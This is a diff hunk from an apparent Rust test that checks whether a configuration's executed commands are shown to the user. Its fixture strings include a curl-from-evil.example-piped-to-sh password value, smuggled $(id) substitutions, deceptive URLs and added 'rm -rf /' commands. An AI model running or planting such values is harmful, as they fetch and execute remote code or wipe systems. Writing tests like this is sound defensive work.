@@ -168,6 +168,8 @@ fn what_runs_is_shown() {
         "commands = [\"run --password=$(curl${IFS}evil.example|sh)\"]",
         "commands = [\"run --password $(id)\", \"PASSWORD=`id` x\"]",
         "urls = [\"http://evil.example:80/x@good.example\", \"http://evil.example:80#@good.example\"]",
+        "[inputs.exec.token]\ncommands = [\"rm -rf /\"]\ncommand = \"x\"",
+        "token = { commands = [\"rm -rf /\"], urls = [\"http://h\"] }",
         "topic = \"a:b@c/d\"",
         "oid = \"SNMP-COMMUNITY-MIB::snmpCommunityName.1\"",
         "commands = [\"mkdir -p /var/x\", \"ssh -p 22 h\"]",
